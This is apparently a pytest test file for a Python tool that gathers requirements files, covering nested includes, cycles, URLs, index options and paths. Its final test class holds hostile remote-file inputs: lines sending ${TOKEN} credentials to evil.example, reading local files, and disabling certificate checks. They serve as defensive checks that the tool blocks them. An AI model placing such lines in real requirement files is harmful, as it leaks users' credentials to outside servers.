"""Gathering what is wanted: nesting, cycles, options of files, paths."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from admit.config.remote_files import CannotReadRequirements
from admit.config.requirements import (
    Wanted,
    collect_requirements,
)
from admit.errors import InputError, UsageError
from support.wheel import build_wheel

if TYPE_CHECKING:
    from pathlib import Path

    from admit.spec.url import Url


class Folder:
    """A working folder with files in it."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.pages: dict[str, str] = {}
        """What is behind a URL."""

    def write(self, **files: str) -> None:
        """`a__b="…"` writes `a/b.txt`."""
        for name, text in files.items():
            path = self.path / f"{name.replace('__', '/')}.txt"
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)

    def collect(
        self,
        *packages: str,
        files: tuple[str, ...] = (),
        constraints: tuple[str, ...] = (),
        environ: dict[str, str] | None = None,
    ) -> Wanted:
        return collect_requirements(
            packages,
            files,
            constraints=constraints,
            environ=environ or {},
            cwd=str(self.path),
            fetch=self.fetch if self.pages else None,
        )

    def fetch(self, url: Url) -> bytes:
        return self.pages[url.text].encode()


@pytest.fixture
def folder(tmp_path: Path) -> Folder:
    return Folder(tmp_path)


def names(wanted: Wanted) -> list[str]:
    return [f"{each.name}{each.specifier}" for each in wanted.requirements]


def limits(wanted: Wanted) -> list[str]:
    return [f"{each.name}{each.specifier}" for each in wanted.constraints]


class TestNesting:
    def test_what_is_named_comes_before_files_and_files_are_read_in_depth(
        self, folder: Folder
    ) -> None:
        folder.write(one="b\n-r sub/two.txt\ne\n", sub__two="c\n-r three.txt\n")
        folder.write(sub__three="d\n", other="f\n")

        wanted = folder.collect("a>1", files=("one.txt", "other.txt"))

        assert names(wanted) == ["a>1", "b", "c", "d", "e", "f"]

    def test_constraints_stay_constraints_whatever_they_include(
        self, folder: Folder
    ) -> None:
        folder.write(one="a\n-c limits.txt\n", limits="a<2\n-r more.txt\n")
        folder.write(more="b<3\n", line="c<4\n")

        wanted = folder.collect(files=("one.txt",), constraints=("line.txt",))

        assert names(wanted) == ["a"]
        assert limits(wanted) == ["a<2", "b<3", "c<4"]

    @pytest.mark.parametrize("first", ["one.txt", "./one.txt", "sub/../one.txt"])
    def test_a_cycle_is_told_with_its_way(self, folder: Folder, first: str) -> None:
        folder.write(one="-r sub/two.txt\n", sub__two="-r ../one.txt\n")

        with pytest.raises(CannotReadRequirements) as caught:
            folder.collect(files=(first,))

        assert caught.value.what == "one.txt includes itself"
        assert caught.value.why == "one.txt includes sub/two.txt"

    def test_a_file_may_be_included_twice(self, folder: Folder) -> None:
        folder.write(one="-r base.txt\n-r base.txt\n", base="a\n")

        assert names(folder.collect(files=("one.txt",))) == ["a", "a"]

    def test_a_missing_file_says_who_wants_it(self, folder: Folder) -> None:
        folder.write(one="-r sub/none.txt\n")

        with pytest.raises(CannotReadRequirements) as caught:
            folder.collect(files=("one.txt",))

        assert caught.value.what == "cannot read the requirements file sub/none.txt"
        assert caught.value.why == "no such file or directory; one.txt wants it"

    @pytest.mark.parametrize(
        ("given", "fix"),
        [
            pytest.param(
                "requirments.txt", "did you mean requirements.txt?", id="typing-error"
            ),
            pytest.param("sub", "did you mean sub/dev.txt?", id="folder"),
            pytest.param("empty", "name a file in it", id="empty-folder"),
        ],
    )
    def test_a_missing_file_is_told_with_what_may_be_meant(
        self, folder: Folder, given: str, fix: str
    ) -> None:
        folder.write(requirements="a\n")
        (folder.path / "empty").mkdir()
        (folder.path / "sub").mkdir()
        (folder.path / "sub" / "dev.txt").touch()

        with pytest.raises(CannotReadRequirements) as caught:
            folder.collect(files=(given,))

        assert caught.value.fix == fix

    def test_a_missing_file_is_told_with_its_whole_path(self, folder: Folder) -> None:
        with pytest.raises(CannotReadRequirements) as caught:
            folder.collect(files=("deep/er.txt",))

        assert (caught.value.fix or "").endswith(f" {folder.path}/deep/er.txt")

    def test_a_file_of_another_encoding_is_named(self, folder: Folder) -> None:
        (folder.path / "one.txt").write_bytes("# grün\na\n".encode("latin-1"))

        with pytest.raises(CannotReadRequirements) as caught:
            folder.collect(files=("one.txt",))

        assert "one.txt" in caught.value.what
        text = "# -*- coding: latin-1 -*-\n# grün\na\n"
        (folder.path / "one.txt").write_bytes(text.encode("latin-1"))
        assert names(folder.collect(files=("one.txt",))) == ["a"]

    def test_every_broken_line_is_told_with_its_place(self, folder: Folder) -> None:
        folder.write(one="a\nb >> 1\n\nc == \n")

        with pytest.raises(InputError) as caught:
            folder.collect(files=("one.txt",))

        why = caught.value.why or ""
        assert "one.txt:2" in why
        assert "one.txt:4" in why


class TestUrls:
    def test_files_behind_urls_include_relative_to_themselves(
        self, folder: Folder
    ) -> None:
        base = "https://host.example/reqs"
        folder.pages = {f"{base}/a.txt": "a\n-r sub/b.txt\n", f"{base}/sub/b.txt": "b"}

        assert names(folder.collect(files=(f"{base}/a.txt",))) == ["a", "b"]

    def test_a_file_url_is_a_path(self, folder: Folder) -> None:
        folder.write(one="a\n")

        url = f"file://{folder.path}/one.txt"

        assert names(folder.collect(files=(url,))) == ["a"]

    def test_without_a_way_to_fetch_it_says_so(self, folder: Folder) -> None:
        with pytest.raises(CannotReadRequirements, match="it is a URL, not a file"):
            folder.collect(files=("https://host.example/a.txt",))


class TestOptions:
    def test_options_become_a_layer_with_their_places(self, folder: Folder) -> None:
        folder.write(
            one="--index-url https://a.example/\n"
            "--extra-index-url https://b.example/\n-r two.txt\n--pre\n",
            two="--extra-index-url https://c.example/\n--trusted-host d.example\n",
        )

        layer = folder.collect(files=("one.txt",)).options

        assert layer is not None
        assert str(layer.values["index_url"]) == "https://a.example/"
        extra = layer.values["extra_index_url"]
        assert isinstance(extra, list)
        assert [str(each) for each in extra] == [
            "https://b.example/",
            "https://c.example/",
        ]
        assert layer.values["allow_insecure_host"] == ["d.example"]
        assert layer.values["pre"] is True
        assert layer.origins["pre"] == "one.txt:4"
        assert layer.origins["allow_insecure_host"] == "two.txt:2"

    def test_no_options_are_no_layer(self, folder: Folder) -> None:
        folder.write(one="a\n")

        assert folder.collect(files=("one.txt",)).options is None

    @pytest.mark.pain("F5")
    def test_references_in_urls_stay_as_typed(self, folder: Folder) -> None:
        folder.write(one="-i https://alice:${SECRET}@a.example/\n")

        layer = folder.collect(files=("one.txt",), environ={"SECRET": "pw"}).options

        assert layer is not None
        assert "pw" not in repr(layer.values)

    def test_variables_are_filled_in_elsewhere(self, folder: Folder) -> None:
        folder.write(one="a==${VERSION}\nb==${lower}1 ; extra == '${UNSET}'\n")

        with pytest.raises(InputError, match=r"one\.txt:2"):
            folder.collect(files=("one.txt",), environ={"VERSION": "1.5"})

        folder.write(one="a==${VERSION}\n")
        wanted = folder.collect(files=("one.txt",), environ={"VERSION": "1.5"})
        assert names(wanted) == ["a==1.5"]

    def test_hashes_are_kept_by_requirement(self, folder: Folder) -> None:
        hash_ = "0" * 64
        folder.write(one=f"a==1.0 \\\n  --hash=sha256:{hash_}\n")

        wanted = folder.collect(files=("one.txt",))

        ((digest,),) = wanted.hashes.values()
        assert (digest.algorithm, digest.hex) == ("sha256", hash_)


class TestPaths:
    def test_a_wheel_is_its_file_url(self, folder: Folder) -> None:
        wheel = build_wheel(folder.path, "mine", "0.1")

        (requirement,) = folder.collect(f"./{wheel.name}").requirements

        assert requirement.name == "mine"
        assert requirement.url is not None
        assert requirement.url.text == f"file://{wheel}"

    def test_odd_marks_in_a_path_are_encoded(self, tmp_path: Path) -> None:
        folder = Folder(tmp_path / "a b#c%41")
        folder.path.mkdir()
        wheel = build_wheel(folder.path, "mine", "0.1")

        (requirement,) = folder.collect(str(wheel)).requirements

        assert requirement.url is not None
        assert requirement.url.text.startswith("file:///")
        assert "/a%20b%23c%2541/" in requirement.url.text

    def test_paths_in_files_are_seen_from_the_working_folder(
        self, folder: Folder
    ) -> None:
        """As pip has it."""
        build_wheel(folder.path, "mine", "0.1")
        folder.write(sub__one="./mine-0.1-py3-none-any.whl\n")

        assert names(folder.collect(files=("sub/one.txt",))) == ["mine"]

    def test_a_path_that_is_not_there_names_its_place(self, folder: Folder) -> None:
        folder.write(one="\n./none-1.0-py3-none-any.whl\n")

        with pytest.raises(UsageError, match=r"one\.txt:2: there is no file"):
            folder.collect(files=("one.txt",))

    @pytest.mark.parametrize(
        ("line", "url", "is_editable"),
        [
            ("-e ./sub", "file://{}/sub", True),
            ("./sub", "file://{}/sub", False),
            ("./x-1.0.tar.gz", "file://{}/x-1.0.tar.gz", False),
            ("git+https://h.example/x.git", "git+https://h.example/x.git", False),
        ],
    )
    def test_what_only_a_build_names_is_a_source(
        self, folder: Folder, line: str, url: str, is_editable: bool
    ) -> None:
        (folder.path / "sub").mkdir()
        (folder.path / "sub" / "setup.py").touch()
        (folder.path / "x-1.0.tar.gz").touch()
        folder.write(one=f"{line}\n")

        wanted = folder.collect(files=("one.txt",))

        assert wanted.requirements == ()
        (source,) = wanted.sources
        assert source.url.text == url.format(folder.path)
        assert (source.name, source.is_editable) == (None, is_editable)
        assert (source.where, source.origin) == ("one.txt:1", "-r one.txt")

    @pytest.mark.parametrize("line", ["-e .", "./sub"])
    def test_a_folder_without_a_project_is_told(
        self, folder: Folder, line: str
    ) -> None:
        (folder.path / "sub").mkdir()
        folder.write(one=f"{line}\n")

        with pytest.raises(UsageError, match=r"one\.txt:1: .* without a project"):
            folder.collect(files=("one.txt",))


class TestAFileOfAServer:
    URL = "https://host.example/requirements.txt"

    def test_may_not_switch_certificate_checks_off(self, folder: Folder) -> None:
        folder.pages[self.URL] = "--trusted-host pypi.corp.example\nwidget\n"

        with pytest.raises(UsageError) as caught:
            folder.collect(files=(self.URL,))

        assert f"{self.URL}:1: a file of a server may not" in caught.value.what

    def test_may_not_read_a_file_of_this_machine(self, folder: Folder) -> None:
        (folder.path / "own").write_text("password canary")
        folder.pages[self.URL] = f"-r file://{folder.path}/own\n"

        with pytest.raises(CannotReadRequirements) as caught:
            folder.collect(files=(self.URL,))

        assert "may not read files of this machine" in (caught.value.why or "")
        assert "canary" not in str(caught.value.what)

    @pytest.mark.parametrize(
        "line",
        [
            "--index-url https://${TOKEN}@evil.example/simple/",
            "--extra-index-url https://me:${TOKEN}@evil.example/simple/",
            "-r https://me:${TOKEN}@evil.example/more.txt",
            "widget @ https://${TOKEN}:@evil.example/widget-1-py3-none-any.whl",
        ],
    )
    def test_may_not_send_variables_to_another_server(
        self, folder: Folder, line: str
    ) -> None:
        folder.pages[self.URL] = f"{line}\n"

        with pytest.raises(CannotReadRequirements, match="may not send variables"):
            folder.collect(files=(self.URL,))

    def test_may_name_variables_for_its_own_server(self, folder: Folder) -> None:
        line = "--index-url https://me:${TOKEN}@host.example/simple/"
        folder.pages[self.URL] = f"{line}\n"

        layer = folder.collect(files=(self.URL,)).options

        assert layer is not None
        assert "index_url" in layer.values

    def test_may_not_put_variables_into_addresses(self, folder: Folder) -> None:
        folder.pages[self.URL] = "--index-url https://evil.example/${HOME}/\n"

        layer = folder.collect(files=(self.URL,), environ={"HOME": "canary"}).options

        assert layer is not None
        assert "${HOME}" in str(layer.values["index_url"])

    def test_may_not_go_on_for_ever(self, folder: Folder) -> None:
        for number in range(200):
            url = f"https://host.example/{number}.txt"
            folder.pages[url] = f"-r {number + 1}.txt\n"

        with pytest.raises(CannotReadRequirements, match="more than 50 deep"):
            folder.collect(files=("https://host.example/0.txt",))
